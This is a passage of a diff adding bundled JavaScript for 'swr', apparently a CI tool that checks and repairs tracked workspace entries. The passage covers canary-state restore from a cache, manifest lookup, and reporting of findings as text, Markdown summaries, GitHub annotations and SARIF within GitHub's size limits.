+    ledger_removeLedger(dir);
+    return { reading, cleaned };
+}
+/** Remove exactly what the planting made, and its ledger; undefined when nothing is planted. */
+function cleanCanary(state, anchors) {
+    return canary_locked(state, () => {
+        const ledger = readLedger(state.stateDir);
+        if (!ledger)
+            return undefined;
+        const cleaned = cleanLedger(ledger, anchors);
+        removeLedger(state.stateDir);
+        return { plant_id: ledger.plant_id, ...cleaned };
+    });
+}
+/** Survival per location and entry over the history in `stateDir`. */
+function survivalStats(stateDir) {
+    return computeStats(readHistory(stateDir).records);
+}
+/** A check (before any repair: what survived) joins the survival history. */
+function recordSurvival(stateDir, report, m, context, limits) {
+    appendHistory(stateDir, checkRecord(report, m, context), limits);
+}
+/** Bounds of a canary state archive: a ledger, a rotated history and a little more. */
+const STATE_MAX_BYTES = 64 * 1024 * 1024;
+const STATE_MAX_MEMBERS = 64;
+/**
+ * Bring the canary state kept in the cache to `dir` (under `prefix`, newest first), unless an
+ * earlier step of the job already holds it there. A state that does not prove itself never
+ * reaches `dir`: the run goes on with a fresh one. `scratchBase` is where it is unpacked first.
+ */
+async function restoreCanaryState(dir, client, prefix, scratchBase) {
+    if (external_node_fs_default().existsSync(dir))
+        return { from: 'present' };
+    let source = { from: 'no-cache' };
+    if (client) {
+        const hit = await client.find(dir, prefix, [prefix]);
+        if (!hit)
+            source = { from: 'none' };
+        else {
+            const why = await takeState(hit, dir, scratchBase);
+            source =
+                why === undefined
+                    ? { from: 'cache', key: hit.matchedKey }
+                    : { from: 'refused', key: hit.matchedKey, why };
+        }
+    }
+    state_dir_ensurePrivateDir(dir);
+    return source;
+}
+/**
+ * Unpack the cached state into scratch, parse the ledger and the history there (which bounds and
+ * validates them), and only then move it to `dir`. Returns why it was refused, undefined when
+ * taken.
+ */
+async function takeState(hit, dir, scratchBase) {
+    let copy;
+    try {
+        copy = await scratchCopy(hit, scratchBase, {
+            maxMembers: STATE_MAX_MEMBERS,
+            maxBytes: STATE_MAX_BYTES
+        });
+        ledger_readLedger(copy.root);
+        readHistory(copy.root);
+        external_node_fs_default().mkdirSync(external_node_path_default().dirname(dir), { recursive: true });
+        external_node_fs_default().renameSync(copy.root, dir);
+        external_node_fs_default().chmodSync(dir, 0o700);
+        return undefined;
+    }
+    catch (err) {
+        return (err instanceof Error ? err.message : String(err)).split(/[\r\n]/)[0];
+    }
+    finally {
+        copy?.dispose();
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/manifest/locate.ts
+/**
+ * Where the manifest lives: an explicit flag, then SWR_MANIFEST, then the nearest
+ * `.swr/manifest.json` walking up from the current directory (as git finds `.git`), then
+ * `~/.swr/manifest.json` describing $HOME (the agent-sandbox case).
+ */
+
+
+const MANIFEST_DIR = '.swr';
+const MANIFEST_NAME = 'manifest.json';
+/** The manifest a command should read; `how: 'new'` when none exists (where `add` would create one). */
+function locateManifest(input) {
+    if (input.flag)
+        return { file: path.resolve(input.cwd, input.flag), how: 'flag' };
+    if (input.env)
+        return { file: path.resolve(input.cwd, input.env), how: 'env' };
+    for (let dir = path.resolve(input.cwd);; dir = path.dirname(dir)) {
+        const candidate = path.join(dir, MANIFEST_DIR, MANIFEST_NAME);
+        if (fs.existsSync(candidate))
+            return { file: candidate, how: 'found' };
+        if (dir === path.dirname(dir))
+            break;
+    }
+    const home = path.join(input.home, MANIFEST_DIR, MANIFEST_NAME);
+    if (fs.existsSync(home))
+        return { file: home, how: 'home' };
+    return { file: path.join(path.resolve(input.cwd), MANIFEST_DIR, MANIFEST_NAME), how: 'new' };
+}
+
+;// CONCATENATED MODULE: ./src/core/report/text.ts
+/**
+ * Human output of a check: one aligned, greppable line per entry (status first), the files a tree
+ * lost or gained, a summary, the wipe signature and the command that repairs the damage. Colour is
+ * the caller's choice (TTY and NO_COLOR are decided in the shell).
+ */
+
+
+const COLORS = {
+    OK: 'green',
+    MISSING: 'red',
+    CORRUPT: 'red',
+    STRIPPED: 'yellow',
+    EMPTY: 'red',
+    BROKENLNK: 'red',
+    TYPE: 'red',
+    SKIPPED: 'gray',
+    SMOKEFAIL: 'red'
+};
+function paint(on, style, s) {
+    // Unvalidated: styleText would otherwise judge process.stdout and the environment itself.
+    return on ? (0,external_node_util_.styleText)(style, s, { validateStream: false }) : s;
+}
+function pad(s, n) {
+    return s.length >= n ? s : s + ' '.repeat(n - s.length);
+}
+/** One line per finding: `STATUS   id   path   detail`. */
+function findingLines(findings, opts) {
+    const idW = Math.min(32, Math.max(2, ...findings.map(f => escape_escapeText(f.id).length)));
+    const pathW = Math.min(40, Math.max(4, ...findings.map(f => escape_escapeText(f.path).length)));
+    const out = [];
+    for (const f of findings) {
+        const status = paint(opts.color, COLORS[f.status], pad(f.status, 9));
+        const path = escape_escapeText(f.path);
+        const p = path.length > pathW ? '…' + path.slice(-(pathW - 1)) : path;
+        out.push(`  ${status} ${pad(escape_escapeText(f.id), idW)}  ${pad(p, pathW)}  ${escape_escapeText(f.detail)}`);
+        if (f.files) {
+            const d = f.files;
+            const more = (shown, total) => total > shown ? [`      ... ${total - shown} more`] : [];
+            for (const m of d.missing.slice(0, 5))
+                out.push(`      - ${escape_escapeText(m)}`);
+            out.push(...more(Math.min(5, d.missing.length), d.counts.missing));
+            for (const x of d.extra.slice(0, 5))
+                out.push(`      + ${escape_escapeText(x)}`);
+            out.push(...more(Math.min(5, d.extra.length), d.counts.extra));
+            for (const c of d.changed.slice(0, 5))
+                out.push(`      ~ ${escape_escapeText(c.path)} (${escape_escapeText(c.what)})`);
+            out.push(...more(Math.min(5, d.changed.length), d.counts.changed));
+        }
+    }
+    return out;
+}
+function renderCheck(r, opts) {
+    const lines = [];
+    const shown = opts.all ? r.results : r.results.filter(f => f.status !== 'OK');
+    lines.push(...findingLines(shown, opts));
+    const s = r.summary;
+    const verdict = s.damaged === 0
+        ? paint(opts.color, 'green', `${s.ok}/${s.entries} healthy`)
+        : paint(opts.color, 'red', `${s.ok}/${s.entries} healthy, ${s.damaged} damaged`);
+    lines.push(`${verdict}  (${r.timing.ms} ms${r.results.some(f => f.cached) ? ', cache used' : ''})`);
+    if (s.damaged > 0) {
+        lines.push(`wipe signature: ${paint(opts.color, 'bold', r.diagnosis.signature)}: ${e(r.diagnosis.cause)}`);
+        const ids = r.results.filter(f => f.status !== 'OK').map(f => e(f.id));
+        lines.push(`why: swr why${ids.length <= 3 ? ` --only ${ids.join(' ')}` : ''}`);
+        lines.push(...fixLines(r));
+    }
+    for (const n of r.notes)
+        lines.push(paint(opts.color, 'gray', `note: ${e(n)}`));
+    return lines.join('\n') + '\n';
+}
+/**
+ * The summary's fix: `swr restore` only for root causes that have a way back (their consequences
+ * heal with them), and the entries that have none named as such instead of sent to a dead end.
+ */
+function fixLines(r) {
+    const roots = r.diagnosis.advice.filter(a => a.because === undefined);
+    const can = roots.filter(a => a.restorable !== false).map(a => e(a.id));
+    const cannot = roots.filter(a => a.restorable === false).map(a => e(a.id));
+    const out = [];
+    if (can.length > 0)
+        out.push(`fix: swr restore${can.length <= 3 ? ` --only ${can.join(' ')}` : ''}   (or: swr doctor)`);
+    if (cannot.length > 0) {
+        const list = cannot.length <= 5 ? cannot.join(', ') : `${cannot.slice(0, 5).join(', ')}, ...`;
+        out.push(`no way back recorded for ${cannot.length}: ${list}  (swr why says what to do)`);
+    }
+    return out;
+}
+function renderWhy(r, opts, notes, history = new Map()) {
+    const damaged = r.results.filter(f => f.status !== 'OK');
+    if (damaged.length === 0)
+        return (paint(opts.color, 'green', `${r.summary.entries}/${r.summary.entries} healthy: nothing to explain`) + '\n');
+    const lines = [
+        `wipe signature: ${paint(opts.color, 'bold', r.diagnosis.signature)}`,
+        `  ${e(r.diagnosis.cause)}`,
+        ''
+    ];
+    const adviceById = new Map(r.diagnosis.advice.map(a => [a.id, a]));
+    for (const f of damaged) {
+        const advice = adviceById.get(f.id);
+        lines.push(`${paint(opts.color, COLORS[f.status], f.status)} ${e(f.id)}  (${f.kind}, tier ${f.tier}, ${e(f.path)})`);
+        lines.push(`  found:    ${e(f.detail)}`);
+        lines.push(`  recorded: ${show(f.recorded)}`);
+        lines.push(`  now:      ${show(f.found)}`);
+        if (advice) {
+            lines.push(`  cause:    ${e(advice.cause)}`);
+            if (advice.risk)
+                lines.push(`  risk:     ${e(advice.risk)}`);
+            if (advice.affects)
+                lines.push(`  affects:  ${advice.affects.map(id => e(id)).join(', ')}`);
+            lines.push(`  fix:      ${e(advice.fix)}`);
+        }
+        const note = notes.get(f.id);
+        if (note)
+            lines.push(`  note:     ${e(note)}`);
+        const past = history.get(f.id);
+        if (past)
+            lines.push(`  history:  ${e(past)}`);
+        lines.push('');
+    }
+    return lines.join('\n');
+}
+function show(v) {
+    return Object.entries(v)
+        .map(([k, x]) => `${k}=${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : e(String(x))}`)
+        .join(' ');
+}
+/** The plan, wave by wave, with the reason for each step. */
+function renderPlan(waves, opts) {
+    if (waves.length === 0)
+        return 'nothing to repair\n';
+    const lines = [];
+    let n = 0;
+    const total = waves.reduce((s, w) => s + w.length, 0);
+    waves.forEach((wave, w) => {
+        for (const s of wave) {
+            n++;
+            const src = s.sources.length === 0 ? paint(opts.color, 'red', 'no recipe') : sourceList(s).join(', ');
+            const after = s.after.length > 0 ? ` after ${s.after.map(x => escape_escapeText(x)).join(', ')}` : '';
+            const par = wave.length > 1 ? ` (wave ${w + 1}, parallel)` : '';
+            lines.push(`  [${n}/${total}] tier ${s.tier} ${escape_escapeText(s.id)} <- ${src}${after}${par}`);
+            lines.push(`        ${escape_escapeText(s.reason)}`);
+        }
+    });
+    return lines.join('\n') + '\n';
+}
+/** A step's sources as the runner tries them; the saved state is the first cache (sources.ts). */
+function sourceList(s) {
+    const saved = s.saved_state === undefined ? -1 : s.sources.indexOf('cache');
+    return s.sources.map((k, i) => (i === saved ? 'cache (saved state)' : escape_escapeText(k)));
+}
+const OUTCOME_STYLE = {
+    repaired: 'green',
+    'already-repaired': 'green',
+    'still-damaged': 'red',
+    failed: 'red',
+    skipped: 'yellow',
+    unrepairable: 'red',
+    interrupted: 'yellow'
+};
+/** Entries a repair damaged on the side, each with the recipes that ran before it was found. */
+function renderCollateral(harmed, opts) {
+    return harmed
+        .map(c => {
+        const by = c.after.length > 0 ? `after the recipe of ${c.after.map(id => e(id)).join(', ')} ran` : '';
+        return `${paint(opts.color, 'red', 'collateral')} ${e(c.id)} is ${c.status} ${by}: ${e(c.detail)}\n`;
+    })
+        .join('');
+}
+function renderStep(r, opts) {
+    // A step's detail can quote a cache member's name or a recipe's words: escaped like any name.
+    const line = `  ${paint(opts.color, OUTCOME_STYLE[r.outcome], r.outcome.padEnd(14))} ${escape_escapeText(r.id)}  ${escape_escapeText(r.detail)}\n`;
+    return line + quarantineLine(r.quarantine);
+}
+function quarantineLine(q) {
+    if (!q)
+        return '';
+    if ('skipped' in q)
+        return `      quarantine: ${escape_escapeText(q.skipped)}\n`;
+    const pruned = q.pruned
+        ? `; pruned ${q.pruned.removed} older cop${q.pruned.removed === 1 ? 'y' : 'ies'} (${q.pruned.bytes} bytes)`
+        : '';
+    return `      quarantine: kept ${q.bytes} bytes in ${q.copied}${pruned}\n`;
+}
+
+;// CONCATENATED MODULE: ./src/core/report/severity.ts
+const RANK = {
+    MISSING: 0,
+    EMPTY: 1,
+    TYPE: 2,
+    CORRUPT: 3,
+    BROKENLNK: 4,
+    SMOKEFAIL: 5,
+    STRIPPED: 6,
+    SKIPPED: 7,
+    OK: 8
+};
+/** SARIF's level of each status; annotations use the same (`note` is GitHub's `notice`). */
+const LEVEL = {
+    OK: 'note',
+    MISSING: 'error',
+    CORRUPT: 'error',
+    STRIPPED: 'warning',
+    EMPTY: 'error',
+    BROKENLNK: 'error',
+    TYPE: 'error',
+    SKIPPED: 'warning',
+    SMOKEFAIL: 'error'
+};
+/** Damaged findings, most severe first, then by tier (what blocks the most comes first). */
+function bySeverity(findings) {
+    return findings
+        .filter(f => f.status !== 'OK')
+        .sort((a, b) => RANK[a.status] - RANK[b.status] || a.tier - b.tier || (a.id < b.id ? -1 : 1));
+}
+
+;// CONCATENATED MODULE: ./src/core/report/limits.ts
+/**
+ * How much of each channel GitHub gives a step, and the share swr takes, in one place. GitHub's
+ * documented limits:
+ *
+ * - Step and job outputs: 1 MB per job in total, 50 MB per workflow run, size counted as UTF-16.
+ * - Job summary: 1 MiB (1024 KiB) per step; a larger GITHUB_STEP_SUMMARY is dropped whole.
+ * - Annotations: 10 error, 10 warning and 10 notice annotations shown per step, 50 per job.
+ * - Code scanning SARIF: 25,000 results per run accepted, the 5,000 most severe shown; 10 MB
+ *   (gzip-compressed) per upload.
+ *
+ * swr's outputs together stay under a quarter of the job's 1 MB, so the other steps of the job
+ * keep the rest. Whatever a bound leaves out is counted where it was cut, and the full JSON report
+ * (the `report-path` output) always has everything.
+ */
+/** GitHub: bytes of one step's summary. */
+const GITHUB_SUMMARY_BYTES = 1024 * 1024;
+/** GitHub: annotations of each level (error, warning, notice) shown per step. */
+const GITHUB_ANNOTATIONS_PER_LEVEL = 10;
+/** GitHub: SARIF results shown per run (more are accepted up to 25,000, and not shown). */
+const GITHUB_SARIF_RESULTS_SHOWN = 5000;
+/** The summary swr writes: the step's limit less room for the markers that say what was cut. */
+const SUMMARY_BUDGET = GITHUB_SUMMARY_BYTES - 16 * 1024;
+/** The `report` output (compact JSON). */
+const REPORT_OUTPUT_BYTES = 64 * 1024;
+/** The `damaged` and `repaired` outputs (JSON arrays of ids), each. */
+const ID_LIST_OUTPUT_BYTES = 16 * 1024;
+/** The `stats` output (survival JSON). */
+const STATS_OUTPUT_BYTES = 64 * 1024;
+/** The `canary` output (planting or reading JSON). */
+const CANARY_OUTPUT_BYTES = 64 * 1024;
+/** Ids an overflow notice names before it only counts the rest. */
+const NOTICE_IDS = 20;
+/** Characters of one annotation's message (GitHub shows a few lines of it anyway). */
+const ANNOTATION_MESSAGE_CHARS = 2048;
+/** Rows of each survival table in a summary (classes, locations, entries). */
+const SURVIVAL_TABLE_ROWS = 200;
+/** Results in a SARIF file: the ones code scanning shows. */
+const SARIF_RESULTS = GITHUB_SARIF_RESULTS_SHOWN;
+/**
+ * What an output of `text` costs against GitHub's budget: GitHub counts UTF-16, and the bytes on
+ * disk are UTF-8; the larger of the two.
+ */
+function outputSize(text) {
+    return Math.max(Buffer.byteLength(text, 'utf8'), text.length * 2);
+}
+
+;// CONCATENATED MODULE: ./src/core/report/annotations.ts
+
+
+
+const annotations_e = (s, max = ANNOTATION_MESSAGE_CHARS) => escape_escapeText(s, { max });
+function levelOf(status) {
+    const l = LEVEL[status];
+    return l === 'note' ? 'notice' : l;
+}
+function annotationsFor(report, ctx) {
+    const room = (l) => Math.max(0, ctx.room?.[l] ?? GITHUB_ANNOTATIONS_PER_LEVEL);
+    // One notice is kept back for the overflow count.
+    const left = {
+        error: room('error'),
+        warning: room('warning'),
+        notice: room('notice') - 1
+    };
+    const out = [];
+    const cut = [];
+    const adviceById = new Map(report.diagnosis.advice.map(a => [a.id, a]));
+    for (const f of bySeverity(report.results)) {
+        const level = levelOf(f.status);
+        const advice = adviceById.get(f.id);
+        const message = annotations_e(`${annotations_e(f.detail)}${advice ? `\nCause: ${annotations_e(advice.cause)}\nFix: ${annotations_e(advice.fix)}` : ''}`);
+        const title = `swr: ${f.status} ${annotations_e(f.id, 200)}`;
+        const places = [
+            { level, title, message, file: ctx.manifestUri, startLine: ctx.lines.get(f.id) ?? 1 }
+        ];
+        const own = f.kind === 'file' || f.kind === 'blob' ? ctx.trackedPath(f.path) : undefined;
+        if (own)
+            places.push({ level, title, message, file: own, startLine: 1 });
+        if (places.length > left[level]) {
+            cut.push(`${f.status} ${annotations_e(f.id, 200)}`);
+            continue;
+        }
+        left[level] -= places.length;
+        out.push(...places);
+    }
+    if (cut.length > 0 && room('notice') > 0)
+        out.push(overflowNotice(cut, ctx.reportPath));
+    return out;
+}
+/** The entries left unannotated: counted, the first few named, and where to find them all. */
+function overflowNotice(cut, reportPath) {
+    const named = cut.slice(0, NOTICE_IDS).join(', ');
+    const more = cut.length > NOTICE_IDS ? ` and ${cut.length - NOTICE_IDS} more` : '';
+    return {
+        level: 'notice',
+        title: `swr: ${cut.length} more damaged entries not annotated`,
+        message: `${named}${more}. GitHub shows ${GITHUB_ANNOTATIONS_PER_LEVEL} annotations of each level per step; the job summary and the full report${reportPath ? ` (${annotations_e(reportPath, 1024)})` : ''} list every entry.`
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/report/canary.ts
+/**
+ * A canary read for people: totals, a table by class (with the attributes that changed) and by
+ * location, then one line per probe that did not come back intact.
+ */
+
+
+
+
+
+function totals(t) {
+    const n = t.intact + t.altered + t.lost;
+    return `${n} probes: ${t.intact} intact, ${t.altered} altered, ${t.lost} lost`;
+}
+function attrs(a) {
+    return Object.entries(a)
+        .map(([k, n]) => `${k} ${n}`)
+        .join(', ');
+}
+function header(r) {
+    return `canary ${escape_escapeText(r.plant_id)}: planted ${r.planted_at.slice(0, 19)}Z on ${contextLabel(r.planted_by)}, read ${r.read_at.slice(0, 19)}Z on ${contextLabel(r.read_by)}${r.reread ? ' (read before)' : ''}`;
+}
+function renderCanaryText(r) {
+    const lines = [header(r), totals(r.totals), ''];
+    const classes = Object.entries(r.classes);
+    const cw = Math.max(...classes.map(([c]) => c.length), 5);
+    lines.push(`${'class'.padEnd(cw + 2)}${'intact'.padStart(7)}${'altered'.padStart(8)}${'lost'.padStart(6)}  changed`);
+    for (const [c, t] of classes) {
+        if (!t)
+            continue;
+        lines.push(`  ${c.padEnd(cw)}${String(t.intact).padStart(7)}${String(t.altered).padStart(8)}${String(t.lost).padStart(6)}  ${attrs(t.attributes)}`);
+    }
+    lines.push('');
+    const locs = Object.entries(r.locations);
+    const lw = Math.max(...locs.map(([l]) => escape_escapeText(l).length), 8);
+    lines.push(`${'location'.padEnd(lw + 2)}${'intact'.padStart(7)}${'altered'.padStart(8)}${'lost'.padStart(6)}`);
+    for (const [l, t] of locs)
+        lines.push(`  ${escape_escapeText(l).padEnd(lw)}${String(t.intact).padStart(7)}${String(t.altered).padStart(8)}${String(t.lost).padStart(6)}`);
+    const bad = r.probes.filter(p => p.outcome.state !== 'intact');
+    if (bad.length > 0) {
+        lines.push('');
+        for (const p of bad) {
+            const o = p.outcome;
+            const what = o.state === 'altered' ? `${o.attributes.join(',')}: ${escape_escapeText(o.detail)}` : 'gone';
+            lines.push(`${o.state.toUpperCase().padEnd(8)} ${p.class.padEnd(cw)}  ${escape_escapeText(p.location)}  ${escape_escapeText(abbreviate(p.path))}  ${what}`);
+        }
+    }
+    return lines.join('\n') + '\n';
+}
+function cell(x) {
+    return escapeMarkdown(x);
+}
+function renderCanaryMarkdown(r) {
+    const icon = r.totals.altered + r.totals.lost === 0 ? '✅' : '⚠️';
+    const lines = [
+        `### ${icon} swr canary: ${totals(r.totals)}`,
+        '',
+        `<sub>${cell(header(r))}</sub>`,
+        '',
+        '| probe class | what it tests | intact | altered | lost | changed |',
+        '| --- | --- | ---: | ---: | ---: | --- |'
+    ];
+    for (const [c, t] of Object.entries(r.classes))
+        lines.push(`| \`${c}\` | ${CLASS_QUESTION[c]} | ${t.intact} | ${t.altered} | ${t.lost} | ${attrs(t.attributes)} |`);
+    lines.push('', '| location | intact | altered | lost |', '| --- | ---: | ---: | ---: |');
+    const locations = Object.entries(r.locations);
+    for (const [l, t] of locations.slice(0, SURVIVAL_TABLE_ROWS))
+        lines.push(`| ${markdownCode(l, { max: 256 })} | ${t.intact} | ${t.altered} | ${t.lost} |`);
+    if (locations.length > SURVIVAL_TABLE_ROWS)
+        lines.push(`| … ${locations.length - SURVIVAL_TABLE_ROWS} more locations | | | |`);
+    return lines.join('\n') + '\n';
+}
+
+;// CONCATENATED MODULE: ./src/core/report/markdown.ts
+
+
+
+/** One cell's text: a hostile 10 MB detail must not take the whole summary. */
+const CELL_CHARS = 1024;
+const ICON = {
+    healthy: '✅',
+    repaired: '🛠️',
+    damaged: '❌',
+    unrepairable: '❌',
+    'still-damaged': '❌',
+    refused: '⛔',
+    interrupted: '⏹️'
+};
+/** Untrusted text in a table cell or a line: literal, one line, no Markdown or HTML. */
+function markdown_cell(s) {
+    return escapeMarkdown(s, { max: CELL_CHARS });
+}
+function markdown_shown(v) {
+    return Object.entries(v)
+        .map(([k, x]) => `${k} ${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : String(x)}`)
+        .join(', ');
+}
+function isRepair(r) {
+    return 'repair' in r;
+}
+function renderMarkdown(r, ctx = {}) {
+    const outcome = isRepair(r) ? r.repair.outcome : r.verdict;
+    const head = [];
+    const s = r.summary;
+    const what = isRepair(r) && r.repair.steps.length > 0
+        ? `${r.repair.steps.filter(x => x.outcome === 'repaired').length} of ${r.repair.steps.length} repairs succeeded, ${s.ok}/${s.entries} healthy now`
+        : `${s.ok}/${s.entries} entries healthy`;
+    head.push(`### swr ${r.command}: ${ICON[outcome] ?? ''} ${outcome}`, '', what, '');
+    const signature = isRepair(r) ? r.repair.before.signature : r.diagnosis.signature;
+    if (signature !== 'healthy') {
+        head.push(`**Wipe signature:** \`${signature}\`${isRepair(r) ? ' (before repair)' : ''}: ${markdown_cell(isRepair(r) ? r.repair.before.cause : r.diagnosis.cause)}`, '');
+    }
+    if (isRepair(r) && r.repair.gate && !r.repair.gate.allowed) {
+        head.push(`> [!WARNING]`, `> No recipe ran: ${markdown_cell(r.repair.gate.reason)}`, '');
+    }
+    const findings = {
+        head: r.results.some(f => f.status !== 'OK')
+            ? [
+                '| Status | Entry | Path | Tier | Found | Recorded | Now |',
+                '|---|---|---|---|---|---|---|'
+            ]
+            : ['All entries verify.'],
+        rows: bySeverity(r.results).map(f => `| ${f.status} | ${markdownCode(f.id)} | ${markdownCode(f.path, { max: CELL_CHARS })} | ${f.tier} | ${markdown_cell(f.detail)} | ${markdown_cell(markdown_shown(f.recorded))} | ${markdown_cell(markdown_shown(f.found))} |`),
+        cut: (n, where) => `| … | ${n} more entries | | | see ${where} | | |`
+    };
+    const sections = [findings];
+    if (isRepair(r) && r.repair.steps.length > 0) {
+        const tiers = new Map(r.repair.plan.flat().map(p => [p.id, p.tier]));
+        sections.push({
+            head: [
+                '',
+                '#### Repair',
+                '',
+                '| # | Entry | Tier | Source | Result | Exit | Time |',
+                '|---|---|---|---|---|---|---|'
+            ],
+            rows: r.repair.steps.map((st, i) => {
+                const exit = st.recipe
+                    ? st.recipe.timedOut
+                        ? 'timeout'
+                        : String(st.recipe.exitCode ?? st.recipe.signal ?? '')
+                    : '';
+                const time = st.recipe ? `${(st.recipe.ms / 1000).toFixed(1)} s` : '';
+                return `| ${i + 1} | ${markdownCode(st.id)} | ${tiers.get(st.id) ?? ''} | ${markdown_cell(st.source)} | ${st.outcome}: ${markdown_cell(st.detail)} | ${exit} | ${time} |`;
+            }),
+            cut: (n, where) => `| … | ${n} more steps | | | see ${where} | | |`
+        });
+    }
+    else if (isRepair(r) && r.repair.plan.length > 0) {
+        sections.push({
+            head: ['', '#### Repair plan (not run)', ''],
+            rows: r.repair.plan
+                .flat()
+                .map(st => `- tier ${st.tier} ${markdownCode(st.id)} from ${markdown_cell(st.source)}${st.after.length ? ` after ${markdown_cell(st.after.join(', '))}` : ''}`),
+            cut: (n, where) => `- … ${n} more steps: see ${where}`
+        });
+    }
+    const tail = [
+        '',
+        `<sub>manifest ${markdown_cell(r.manifest.path)} · digest \`${r.manifest.digest.slice(0, 16)}\` · version ${r.manifest.version} · ${r.timing.ms} ms · swr ${r.tool.version}</sub>`
+    ];
+    const where = ctx.reportPath ? markdownCode(ctx.reportPath) : 'the JSON report';
+    return fitSections(head, sections, tail, where, SUMMARY_BUDGET);
+}
+const bytes = (lines) => lines.reduce((n, l) => n + Buffer.byteLength(l) + 1, 0);
+/**
+ * Join the parts within `budget` bytes: the head, the tail and every section's heading always; the
+ * rows shared fairly (the smallest sections whole, the rest an equal share each), each cut
+ * section ending with a row that counts what it left out and says where to find it.
+ */
+function fitSections(head, sections, tail, where, budget) {
+    const markers = sections.map(s => s.cut(Number.MAX_SAFE_INTEGER, where));
+    let room = budget - bytes([...head, ...tail, ...sections.flatMap(s => s.head), ...markers]);
+    const order = sections.map((s, i) => ({ i, need: bytes(s.rows) })).sort((a, b) => a.need - b.need);
+    const share = new Map();
+    order.forEach(({ i, need }, k) => {
+        const fair = Math.max(0, Math.floor(room / (order.length - k)));
+        share.set(i, Math.min(need, fair));
+        room -= Math.min(need, fair);
+    });
+    const out = [...head];
+    sections.forEach((s, i) => {
+        const kept = [];
+        let left = share.get(i) ?? 0;
+        for (const row of s.rows) {
+            const n = Buffer.byteLength(row) + 1;
+            if (n > left)
+                break;
+            kept.push(row);
+            left -= n;
+        }
+        out.push(...s.head, ...kept);
+        if (kept.length < s.rows.length)
+            out.push(s.cut(s.rows.length - kept.length, where));
+    });
+    return [...out, ...tail].join('\n') + '\n';
+}
+
+;// CONCATENATED MODULE: ./src/core/report/sarif.ts
+/**
+ * The report as SARIF 2.1.0, for code scanning (`github/codeql-action/upload-sarif`): one rule per
+ * status, one result per damaged entry, located at the line of the manifest that declares it.
+ */
+
+
+
+
+const RULE_TEXT = {
+    OK: 'The entry verifies.',
+    MISSING: 'A tracked entry is missing from the workspace.',
+    CORRUPT: 'A tracked entry differs from what the manifest recorded (size, content, mode, files or target).',
+    STRIPPED: 'A tracked entry lost an exec bit it should have.',
+    EMPTY: 'A tracked directory survived with no files in it.',
+    BROKENLNK: 'A tracked symlink points at something that does not exist.',
+    TYPE: 'A tracked entry changed kind (file, directory, symlink).',
+    SKIPPED: 'The entry was not repaired because a dependency failed.',
+    SMOKEFAIL: "The entry's files verify but its smoke command fails."
+};
+/** What to do about each status: the rule's help, shown beside every result in code scanning. */
+const RULE_HELP = {
+    OK: 'Nothing to do.',
+    MISSING: 'Restore the entry: `swr doctor` (or the Action with `command: doctor`) runs its signed restore sources; `swr why` names the cause. If the entry is gone on purpose, take it out of the manifest and sign it again.',
+    CORRUPT: 'The bytes, size, file list or link target changed since the manifest was signed. Restore the entry with `swr doctor`; if the change is intended, record it again with `swr add` and re-sign.',
+    STRIPPED: 'Only the exec bit was lost (a tar, artifact or cache round trip that drops modes). `swr doctor` puts it back; so does `chmod +x` on the path.',
+    EMPTY: 'The directory exists but its files are gone (a cleanup or a partial restore). Restore it with `swr doctor`.',
+    BROKENLNK: "The link's target is missing: restore the target first (`swr doctor` orders repairs by dependency), or record the new target with `swr add`.",
+    TYPE: 'A file became a directory or a link, or the other way round. Remove what is there and restore the entry with `swr doctor`.',
+    SKIPPED: 'The entry was not repaired because an entry it needs failed; fix that one first (see the repair table in the job summary).',
+    SMOKEFAIL: "The files verify but the entry's smoke command fails: the tool they make up does not run here. Check the smoke command's output in the log."
+};
+function toSarif(report, ctx) {
+    const rules = STATUSES.filter(s => s !== 'OK').map(s => ({
+        id: `swr/${s}`,
+        name: s,
+        shortDescription: { text: RULE_TEXT[s] },
+        fullDescription: { text: `${RULE_TEXT[s]} ${RULE_HELP[s]}` },
+        help: { text: RULE_HELP[s], markdown: RULE_HELP[s] },
+        defaultConfiguration: { level: LEVEL[s] }
+    }));
+    const damaged = bySeverity(report.results);
+    // Code scanning shows only the most severe results: keep those, count the rest.
+    const kept = damaged.slice(0, SARIF_RESULTS);
+    const adviceById = new Map(report.diagnosis.advice.map(a => [a.id, a]));
+    const results = kept.map(f => {
+        const advice = adviceById.get(f.id);
+        return {
+            ruleId: `swr/${f.status}`,
+            ruleIndex: rules.findIndex(r => r.name === f.status),
+            level: LEVEL[f.status],
+            message: {
+                text: `${f.status} ${escape_escapeText(f.id)} (${escape_escapeText(f.path)}): ${escape_escapeText(f.detail)}${advice ? `. Fix: ${escape_escapeText(advice.fix)}` : ''}`
+            },
+            locations: [
+                {
+                    physicalLocation: {
+                        artifactLocation: { uri: ctx.manifestUri },
+                        region: { startLine: ctx.lines.get(f.id) ?? 1 }
+                    },
+                    logicalLocations: [
+                        { name: f.id, fullyQualifiedName: `${f.kind}:${f.path}`, kind: 'resource' }
+                    ]
+                }
+            ],
+            partialFingerprints: { swrEntry: `${f.id}/${f.status}/${f.reason}` },
+            properties: {
+                tier: f.tier,
+                kind: f.kind,
+                path: f.path,
+                reason: f.reason,
+                recorded: f.recorded,
+                found: f.found
+            }
+        };
+    });
+    return {
+        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
+        version: '2.1.0',
+        runs: [
+            {
+                tool: {
+                    driver: {
+                        name: 'swr',
+                        version: report.tool.version,
+                        rules
+                    }
+                },
+                results,
+                properties: {
+                    verdict: report.verdict,
+                    wipeSignature: report.diagnosis.signature,
+                    manifestDigest: report.manifest.digest,
+                    ...(damaged.length > kept.length
+                        ? {
+                            resultsOmitted: damaged.length - kept.length,
+                            fullReport: ctx.reportPath ?? 'the JSON report'
+                        }
+                        : {})
+                }
+            }
+        ]
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/report/survival.ts
+
+
+const MARK = { kept: '✓', partial: '◐', lost: '✗' };
+/** Runs shown in the chart: enough to see a trend, few enough for labels to stay legible. */
+const CHART_RUNS = 30;
+function pct(x) {
+    return `${(x * 100).toFixed(1)}%`;
+}
+function interval(r) {
+    return `[${(r.low * 100).toFixed(1)}, ${(r.high * 100).toFixed(1)}]`;
+}
+function trend(r) {
+    return r.trend.map(m => MARK[m]).join('');
+}
+function textTable(title, rs) {
+    if (rs.length === 0)
+        return [];
+    const w = Math.max(title.length - 2, ...rs.map(r => escapeText(r.key).length));
+    const head = `${title.padEnd(w + 2)}  ${'rate'.padStart(6)}  ${'95% CI'.padEnd(14)}  ${'n'.padStart(5)}  trend (newest first)`;
+    return [
